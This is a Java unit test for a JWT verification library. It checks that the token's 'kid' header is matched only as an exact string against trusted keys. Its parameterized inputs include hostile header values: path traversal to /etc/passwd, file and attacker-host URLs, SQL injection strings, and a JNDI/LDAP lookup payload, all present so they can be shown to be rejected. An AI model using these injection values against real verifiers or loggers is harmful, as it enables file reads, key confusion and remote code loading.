package io.jwtguard.core.verify.hostile;

import static io.jwtguard.core.verify.hostile.HostileAssertions.assertAccepted;
import static io.jwtguard.core.verify.hostile.HostileAssertions.assertRejected;

import io.jwtguard.core.verify.VerifierConfig;
import io.jwtguard.core.jose.JwsAlgorithm;
import io.jwtguard.core.keys.VerificationKey;
import io.jwtguard.core.testing.TestConfigs;
import io.jwtguard.core.testing.TestKeys;
import io.jwtguard.core.testing.TokenFactory;
import io.jwtguard.core.verify.RejectionReason;
import io.jwtguard.core.verify.TokenVerifier;
import java.util.EnumSet;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * {@code kid} is only a lookup key into keys configuration already trusts, compared as an exact
 * string: never a path, URL or query (RFC 8725 section 3.10).
 */
class KidTest {
    /** Trusts RSA_2048 as "k1" and RSA_2048_OTHER as "k2". */
    private final TokenVerifier verifier = TokenVerifier.create(TestConfigs.builder()
            .verificationKeys(VerificationKey.ofPublicKey("k1", TestKeys.RSA_2048.getPublic()),
                    VerificationKey.ofPublicKey("k2", TestKeys.RSA_2048_OTHER.getPublic()))
            .allowedAlgorithms(EnumSet.of(JwsAlgorithm.RS256))
            .issuer(TokenFactory.ISSUER)
            .audiences(Set.of(TokenFactory.AUDIENCE))
            .clock(TestConfigs.CLOCK)
            .build());

    /** JSON string contents; the tokens are signed by the trusted "k1" key, so only kid matching stops them. */
    @ParameterizedTest
    @ValueSource(strings = {"../../etc/passwd", "../../../../../../dev/null", "/dev/null", "http://evil/x",
            "https://attacker.example/jwks.json", "file:///etc/passwd", "classpath:publicKey.pem",
            "' OR 1=1 --", "k1' OR '1'='1", "k1\\u0000", "k1 ", " k1", "K1", "k1/../k1", "*", "", "%6b1",
            "k1\\nk2", "${jndi:ldap://evil/a}"})
    void verifyWhenKidIsPathUrlOrQueryThenNoMatchingKey(String kid) {
        String token = HostileTokens.rs256("{\"alg\":\"RS256\",\"kid\":\"" + kid + "\"}");

        assertRejected(verifier, token, RejectionReason.NO_MATCHING_KEY);
    }

    @Test
    void verifyWhenKidIsExactlyK1ThenAccepted() {
        assertAccepted(verifier, HostileTokens.rs256("{\"alg\":\"RS256\",\"kid\":\"k1\"}"));
    }

    /** The k2 key is the only candidate for kid "k2", so k1's signature is not tried against k1. */
    @Test
    void verifyWhenSignedByK1ButKidNamesK2ThenInvalidSignature() {
        assertRejected(verifier, HostileTokens.rs256("{\"alg\":\"RS256\",\"kid\":\"k2\"}"),
                RejectionReason.INVALID_SIGNATURE);
    }

    @Test
    void verifyWhenSignedByK2WithKidK2ThenAccepted() {
        String token = HostileTokens.sign("{\"alg\":\"RS256\",\"kid\":\"k2\"}", HostileTokens.claims(), "RS256",
                TestKeys.RSA_2048_OTHER.getPrivate());

        assertAccepted(verifier, token);
    }

    @ParameterizedTest
    @ValueSource(strings = {"1", "null", "true", "[\"k1\"]", "{\"id\":\"k1\"}", "1.5"})
    void verifyWhenKidIsNotAStringThenMalformedHeader(String kidJson) {
        String token = HostileTokens.rs256("{\"alg\":\"RS256\",\"kid\":" + kidJson + "}");

        assertRejected(verifier, token, RejectionReason.MALFORMED_HEADER);
    }

    /** A key configured without kid answers to any kid, but the kid is only compared: a hostile one reads nothing. */
    @Test
    void verifyWhenKeyHasNoKidAndHostileKidThenOnlySignatureDecides() {
        TokenVerifier noKid = HostileTokens.rsaVerifier();
        String forged = HostileTokens.sign("{\"alg\":\"RS256\",\"kid\":\"/dev/null\"}", HostileTokens.claims(),
                "RS256", TestKeys.RSA_2048_OTHER.getPrivate());

        assertRejected(noKid, forged, RejectionReason.INVALID_SIGNATURE);
        assertAccepted(noKid, HostileTokens.rs256("{\"alg\":\"RS256\",\"kid\":\"../../etc/passwd\"}"));
    }
}
